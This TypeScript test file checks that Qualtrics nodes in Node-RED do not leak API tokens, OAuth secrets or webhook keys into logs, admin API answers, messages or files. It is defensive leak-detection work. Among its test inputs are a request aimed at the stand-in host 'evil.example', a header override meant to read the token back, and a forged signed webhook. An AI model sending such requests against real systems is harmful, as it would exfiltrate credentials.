// Secrets: a real Node-RED runs every node type, with an API token, OAuth client credentials, a
// wrong token, a wrong client secret and a webhook shared key, through results and errors, the
// editor's Test connection and picker routes, and a real webhook from the sandbox. Then every log
// line (trace level, audit on), status, error, message, webhook answer, admin API answer
// (GET /flows v1 and v2, /nodes, /credentials, /settings) and every file in the user directory is
// searched for each secret as it is, base64-, URL- and hex-encoded. Each place one is found is a leak.
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { addFigures } from "./figures";
import { Rig, RIG_CONFIG, rigConfig, type Unit } from "./rig";
import { signMessage } from "../../sandbox";
import { type FlowNode } from "../support/runtime";
import { sleep, waitFor } from "../support/wait";

const RUN = process.env.NR_PKG || "node-red";
// recognisable, and with characters that URL- and base64-encoding change
const TOKEN = "LEAKCHECK-TOKEN-9f3b2c7d1e8a4f60b5c2d9e7";
const WRONG_TOKEN = "LEAKCHECK-WRONGTOKEN-1a2b3c4d5e6f7a8b9c0d";
const OAUTH_ID = "LEAKCHECK-CLIENTID-77ab21";
const OAUTH_SECRET = "LEAKCHECK-CLIENT/SECRET+4e9d=c1";
const WRONG_SECRET = "LEAKCHECK-WRONG/SECRET+0f1e=aa";
const SHARED_KEY = "LEAKCHECK shared/key+é&=5b7c";
const TYPED_TOKEN = "LEAKCHECK-TYPEDINDIALOG-3c5e7a9b1d";

function headersText(h: Headers): string {
  const out: string[] = [];
  h.forEach((v, k) => out.push(`${k}: ${v}`));
  return out.join("\n");
}

/** a secret and the forms it could leak in */
function forms(secret: string): Array<[string, string]> {
  const b64 = Buffer.from(secret, "utf8").toString("base64");
  return [
    ["as it is", secret],
    ["base64", b64],
    ["base64 without padding", b64.replace(/=+$/, "")],
    ["base64url", Buffer.from(secret, "utf8").toString("base64url")],
    ["URL-encoded", encodeURIComponent(secret)],
    ["form-encoded", new URLSearchParams({ s: secret }).toString().slice(2)],
    ["JSON-escaped", JSON.stringify(secret).slice(1, -1)],
    ["hex", Buffer.from(secret, "utf8").toString("hex")],
  ].filter(([, v], i, all) => v.length >= 8 && all.findIndex(([, w]) => w === v) === i) as Array<[string, string]>;
}

describe(`faults: secrets (${RUN})`, function () {
  this.timeout(180_000);
  let rig: Rig;
  const haystacks: Array<[string, string]> = [];
  const add = (where: string, text: unknown) => haystacks.push([where, typeof text === "string" ? text : JSON.stringify(text) ?? String(text)]);

  const units = (): Unit[] => {
    const u = (id: string, node: Record<string, unknown>, extra: Partial<Unit> = {}): Unit => ({ node: { id, name: id, qualtrics: RIG_CONFIG, type: "", ...node } as FlowNode, keepMsgs: true, ...extra });
    return [
      u("sec-contact", { type: "qualtrics-contact", operation: "msg", output: "array", limit: 5 }),
      u("sec-contact-oauth", { type: "qualtrics-contact", qualtrics: "sec-oauth", operation: "msg", output: "array", limit: 5 }),
      u("sec-contact-wrong", { type: "qualtrics-contact", qualtrics: "sec-wrong", operation: "msg", output: "array", limit: 5 }),
      u("sec-contact-oauth-wrong", { type: "qualtrics-contact", qualtrics: "sec-oauth-wrong", operation: "msg", output: "array", limit: 5 }),
      u("sec-distribution", { type: "qualtrics-distribution", operation: "msg", channel: "msg", output: "array", limit: 5 }),
      u("sec-api", { type: "qualtrics-api", method: "msg", url: "", paging: "first" }),
      u("sec-api-oauth", { type: "qualtrics-api", qualtrics: "sec-oauth", method: "msg", url: "", paging: "all", limit: 10 }),
      u("sec-response", { type: "qualtrics-response", operation: "msg" }),
      u("sec-mailing-list", { type: "qualtrics-mailing-list", operation: "msg", output: "array", limit: 5 }),
      u("sec-survey", { type: "qualtrics-survey", operation: "msg", output: "array", limit: 5 }),
      u("sec-export", { type: "qualtrics-export", format: "json", output: "array", limit: 5, timeout: 1 }),
      u("sec-poll", { type: "qualtrics-response-poll", surveyId: rig.sb.seedIds.surveyIds[0], surveyIdType: "str", interval: 10, start: "now" }, { idExpr: `"poll"` }),
      u(
        "sec-hook",
        {
          type: "qualtrics-response-in", surveyId: rig.sb.seedIds.surveyIds[0], topic: "", path: "/secrets/hook", autoRegister: true,
          publicBaseUrl: rig.nr.url.replace(/\/$/, ""), fetchResponse: true, dedupeSeconds: 600, maxBodyKb: 256,
        },
        { idExpr: `(msg.event && msg.event.responseId) || "hook"` },
      ),
    ];
  };

  const configs = (): FlowNode[] => [
    rigConfig(),
    { ...rigConfig(), id: "sec-oauth", name: "oauth", authType: "oauth", scopes: "" },
    { ...rigConfig(), id: "sec-wrong", name: "wrong token", timeout: 2, retries: 1 },
    { ...rigConfig(), id: "sec-oauth-wrong", name: "wrong client secret", authType: "oauth", scopes: "", timeout: 2, retries: 1 },
  ];

  before(async function () {
    rig = await Rig.start({
      token: TOKEN,
      sandbox: { oauthClients: [{ clientId: OAUTH_ID, clientSecret: OAUTH_SECRET }] },
      nodeRed: { logLevel: "trace", audit: true, settings: { qualtricsExportPollDelay: 50 } },
    });
    await rig.deploy(units(), configs(), {
      [RIG_CONFIG]: { apiToken: TOKEN },
      "sec-oauth": { clientId: OAUTH_ID, clientSecret: OAUTH_SECRET },
      "sec-wrong": { apiToken: WRONG_TOKEN },
      "sec-oauth-wrong": { clientId: OAUTH_ID, clientSecret: WRONG_SECRET },
      "sec-hook": { sharedKey: SHARED_KEY },
    });
  });

  after(async function () {
    await rig?.dispose();
  });

  afterEach(function () {
    if (this.currentTest?.state === "failed") console.log(`--- Node-RED log (last 4000 chars) ---\n${rig?.nr.log.slice(-4000)}`);
  });

  it("runs every node type through results and errors with the secrets in use", async function () {
    const s = rig.sb.seedIds;
    const [dir, sv, ml, cid] = [s.directoryId, s.surveyIds[0], s.mailingListIds[0], s.contactIds[0]];
    const sends: Array<[string, Array<Record<string, unknown>>]> = [
      ["sec-contact", [
        { operation: "list", payload: { directoryId: dir } },
        { operation: "get", payload: { directoryId: dir, contactId: cid } },
        { operation: "create", payload: { directoryId: dir, email: "leak@example.com" } },
        { operation: "get", payload: { directoryId: dir, contactId: "CID_doesnotexist000" } },
        { operation: "nonsense" },
      ]],
      ["sec-contact-oauth", [{ operation: "list", payload: { directoryId: dir } }, { operation: "get", payload: { directoryId: dir, contactId: "CID_nothere000000" } }]],
      ["sec-contact-wrong", [{ operation: "list", payload: { directoryId: dir } }]],
      ["sec-contact-oauth-wrong", [{ operation: "list", payload: { directoryId: dir } }]],
      ["sec-distribution", [
        { operation: "list", payload: { surveyId: sv } },
        { operation: "create", channel: "email", payload: { surveyId: sv, mailingListId: ml, fromEmail: "f@example.com", fromName: "F", subject: "S", messageText: "Hi" } },
        { operation: "create", channel: "email", payload: { fromEmail: "not an email" } },
      ]],
      ["sec-api", [
        { method: "GET", url: "/whoami" },
        // a flow that tries to put the token somewhere it can read it back
        { method: "GET", url: "/whoami", headers: { "X-API-TOKEN": "mine", Authorization: "Bearer mine" } },
        { method: "POST", url: "/nothing/here", payload: { a: 1 } },
        { method: "GET", url: "https://evil.example/API/v3/whoami" },
        { method: "GET", url: `${rig.sb.url.replace("127.0.0.1", "localhost")}/API/v3/whoami` },
        { method: "GET", url: "/eventsubscriptions" },
      ]],
      ["sec-api-oauth", [{ method: "GET", url: "/surveys" }, { method: "GET", url: "/whoami" }, { method: "DELETE", url: "/surveys/SV_nothere00000" }]],
      ["sec-response", [{ operation: "create", payload: { surveyId: sv, values: { QID1: 2 } } }, { operation: "get", payload: { surveyId: sv, responseId: "R_nothere0000000" } }]],
      ["sec-mailing-list", [{ operation: "lists", payload: { directoryId: dir } }, { operation: "members", payload: { directoryId: dir, mailingListId: ml } }, { operation: "get", payload: { directoryId: dir, mailingListId: "CG_nothere000000" } }]],
      ["sec-survey", [{ operation: "list" }, { operation: "get", payload: { surveyId: sv } }, { operation: "get", payload: { surveyId: "SV_nothere000000" } }]],
      ["sec-export", [{ payload: { surveyId: sv } }, { payload: { surveyId: "SV_nothere000000" } }]],
    ];
    const all: Array<[string, string[]]> = [];
    for (const [unit, msgs] of sends) all.push([unit, await rig.send(unit, msgs)]);
    for (const [unit, ids] of all) {
      const ends = await rig.settle(unit, ids, 60_000, 100);
      assert.equal(ends.lost + ends.duplicated, 0, `${unit}: ${JSON.stringify(ends)}`);
    }
    // results and errors both happened, or the sweep would search little
    const ends = rig.ends;
    assert.ok(ends.filter((e) => e.kind === "output").length >= 15, "outputs");
    assert.ok(ends.filter((e) => e.kind === "error").length >= 10, "errors");
    const wrong = rig.endsOf("sec-contact-wrong")[0];
    assert.equal(wrong.kind, "error");
    assert.match(String(wrong.text), /401/);
    assert.match(String(rig.endsOf("sec-contact-oauth-wrong")[0].text), /401|client/i);
    assert.equal(rig.endsOf("sec-api-oauth").filter((e) => e.kind === "output").length, 2);
    assert.ok(rig.sb.oauth.tokens.size >= 1, "an OAuth access token was issued and used");
  });

  it("the response trigger registers with the shared key and takes a real, signed webhook", async function () {
    await waitFor("the subscription", () => [...rig.sb.state.subscriptions.values()].some((x) => x.sharedKey === SHARED_KEY), 20_000);
    const sub = [...rig.sb.state.subscriptions.values()].find((x) => x.sharedKey === SHARED_KEY)!;
    add("the subscription's publication URL", sub.publicationUrl);
    const { responseId, deliveries } = await rig.sb.completeResponse(rig.sb.seedIds.surveyIds[0], { QID1: 5 });
    add("the webhook deliveries", deliveries);
    assert.deepEqual(deliveries.map((d) => d.status), [200]);
    await waitFor("the trigger's message", () => rig.endsOf("sec-hook", [responseId]).length > 0, 20_000);
    // and a forged one: refused, and its answer searched too
    const msg = JSON.stringify({ SurveyID: rig.sb.seedIds.surveyIds[0], ResponseID: "R_forged00000000", BrandID: rig.sb.brandId });
    const forged = await rig.nr.request("POST", `${rig.nr.nodeUrl}/secrets/hook`, new URLSearchParams({ Topic: `${rig.sb.brandId}.surveyengine.completedResponse.x`, MSG: msg, HMAC: signMessage("guess", msg) }).toString(), { "content-type": "application/x-www-form-urlencoded" });
    assert.equal(forged.status, 401);
    add("the forged webhook's answer", `${forged.status} ${forged.text} ${headersText(forged.headers)}`);
  });

  it("the editor's Test connection and picker routes answer without a secret", async function () {
    const sv = rig.sb.seedIds.surveyIds[0];
    const calls: Array<[string, string, unknown]> = [
      ["POST", `qualtrics-config/${RIG_CONFIG}/test`, {}],
      ["POST", `qualtrics-config/${RIG_CONFIG}/test`, { apiToken: "__PWRD__", baseUrl: rig.sb.apiBase }],
      ["POST", `qualtrics-config/${RIG_CONFIG}/test`, { apiToken: TYPED_TOKEN, baseUrl: rig.sb.apiBase }],
      ["POST", `qualtrics-config/sec-wrong/test`, { baseUrl: rig.sb.apiBase }],
      ["POST", `qualtrics-config/sec-oauth/test`, { authType: "oauth", clientId: "__PWRD__", clientSecret: "__PWRD__", baseUrl: rig.sb.apiBase }],
      ["POST", `qualtrics-config/sec-oauth-wrong/test`, { authType: "oauth", baseUrl: rig.sb.apiBase }],
      ["POST", `qualtrics-config/sec-oauth/test`, { authType: "oauth", clientId: OAUTH_ID, clientSecret: WRONG_SECRET, baseUrl: rig.sb.apiBase }],
      ["POST", `qualtrics-config/${RIG_CONFIG}/test`, { baseUrl: "http://127.0.0.1:1/API/v3" }],
      ["POST", `qualtrics-config/${RIG_CONFIG}/test`, { baseUrl: "not a url" }],
      ["GET", `qualtrics-config/${RIG_CONFIG}/lookup/surveys`, undefined],
      ["GET", `qualtrics-config/sec-oauth/lookup/directories`, undefined],
      ["GET", `qualtrics-config/sec-wrong/lookup/surveys`, undefined],
      ["GET", `qualtrics-config/${RIG_CONFIG}/lookup/distributions?surveyId=${sv}`, undefined],
      ["POST", `qualtrics-config/${RIG_CONFIG}/lookup/surveys`, { apiToken: "__PWRD__", baseUrl: rig.sb.apiBase }],
      ["POST", `qualtrics-config/new-node/lookup/surveys`, { apiToken: WRONG_TOKEN, baseUrl: rig.sb.apiBase }],
    ];
    let okAnswers = 0;
    for (const [method, url, body] of calls) {
      const r = await rig.nr.request(method, url, body);
      add(`${method} /${url}`, `${r.status} ${r.text} ${headersText(r.headers)}`);
      if (r.status === 200 && !/"ok":false/.test(r.text)) okAnswers++;
    }
    assert.ok(okAnswers >= 6, `${okAnswers} routes answered with a result`);
  });

  it(`no secret appears in any log line, status, error, message, admin answer or file`, async function () {
    // the poll has run once, the trigger's follow-up has finished
    await sleep(1500);
    const { nr } = rig;
    for (const [name, headers] of [
      ["GET /flows (v1)", {}],
      ["GET /flows (v2)", { "Node-RED-API-Version": "v2" }],
    ] as Array<[string, Record<string, string>]>) {
      const r = await nr.request("GET", "flows", undefined, { Accept: "application/json", ...headers });
      assert.equal(r.status, 200);
      add(name, r.text);
    }
    const flows = (await nr.getFlows()).flows;
    assert.ok(flows.some((n) => n.type === "qualtrics-config"), "GET /flows has the config nodes");
    for (const p of ["nodes", "settings", "flows/state", "plugins"]) {
      const r = await nr.request("GET", p, undefined, { Accept: "application/json" });
      add(`GET /${p}`, `${r.status} ${r.text}`);
    }
    add("GET /nodes (HTML)", (await nr.request("GET", "nodes", undefined, { Accept: "text/html" })).text);
    for (const n of flows.filter((x) => x.type === "qualtrics-config" || x.type === "qualtrics-response-in")) {
      const r = await nr.request("GET", `credentials/${n.type}/${n.id}`);
      assert.equal(r.status, 200);
      add(`GET /credentials/${n.type}/${n.id}`, r.text);
    }
    add("Node-RED's log", nr.log);
    for (const st of rig.statuses) add(`status of ${st.unit}`, st.text);
    for (const e of rig.ends) add(`${e.kind} of ${e.unit} (${e.id})`, { text: e.text, msg: e.msg });
    // every file in the user directory; the credentials file is encrypted, so no form of a secret may show
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const f of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, f.name);
        if (f.isDirectory() && f.name !== "node_modules") walk(p);
        else if (f.isFile() && fs.statSync(p).size < 20_000_000) files.push(p);
      }
    };
    walk(nr.userDir);
    assert.ok(files.some((f) => f.endsWith("flows.json")) && files.some((f) => f.endsWith("flows_cred.json")), `files: ${files.join(", ")}`);
    for (const f of files) add(`file ${path.relative(nr.userDir, f)}`, fs.readFileSync(f).toString("latin1") + "\n" + fs.readFileSync(f, "utf8"));

    const secrets: Array<[string, string]> = [
      ["the API token", TOKEN],
      ["the wrong API token", WRONG_TOKEN],
      ["the OAuth client secret", OAUTH_SECRET],
      ["the wrong client secret", WRONG_SECRET],
      ["the shared key", SHARED_KEY],
      ["the token typed in the dialog", TYPED_TOKEN],
      ["OAuth Basic credentials", `${OAUTH_ID}:${OAUTH_SECRET}`],
      ...[...rig.sb.oauth.tokens.keys()].map((t, i) => [`OAuth access token ${i + 1}`, t] as [string, string]),
    ];
    assert.ok(secrets.length >= 8, "at least one OAuth access token was issued");
    const search = (places: Array<[string, string]>): string[] => {
      const found: string[] = [];
      for (const [what, secret] of secrets) {
        for (const [form, needle] of forms(secret)) {
          for (const [where, text] of places) {
            const at = text.indexOf(needle);
            if (at >= 0) found.push(`${what} (${form}) in ${where}: …${text.slice(Math.max(0, at - 80), at + needle.length + 40).replace(/\s+/g, " ")}…`);
          }
        }
      }
      return found;
    };
    const leaks = search(haystacks);
    // the search finds secrets where they belong: the requests the sandbox received
    const control = search([
      ["the sandbox's API requests", JSON.stringify(rig.sb.requests.map((r) => r.headers))],
      ["the sandbox's token requests", JSON.stringify(rig.sb.oauth.requests.map((r) => r.headers))],
      ["the subscription", JSON.stringify([...rig.sb.state.subscriptions.values()])],
    ]);
    for (const expected of ["the API token (as it is) in the sandbox's API requests", "OAuth Basic credentials (base64) in the sandbox's token requests", "the shared key (as it is) in the subscription"]) {
      assert.ok(control.some((c) => c.startsWith(`${expected}:`)), `the search does not see ${expected}; it saw ${control.map((c) => c.split(":")[0]).join("; ")}`);
    }
    addFigures({ area: "secrets", what: `${secrets.length} secrets × ${haystacks.length} places (log, statuses, errors, msgs, admin API, files)`, leaks: leaks.length });
    assert.ok(haystacks.length > 60, `searched ${haystacks.length} places`);
    // the sweep would see a secret if one were there: the sandbox did get them
    assert.ok(rig.sb.requests.some((r) => r.headers["x-api-token"] === TOKEN), "the token reached the sandbox");
    assert.ok(nr.log.includes("qualtrics") && nr.log.length > 5000, "a log was captured");
    assert.deepEqual(leaks, []);
  });
});
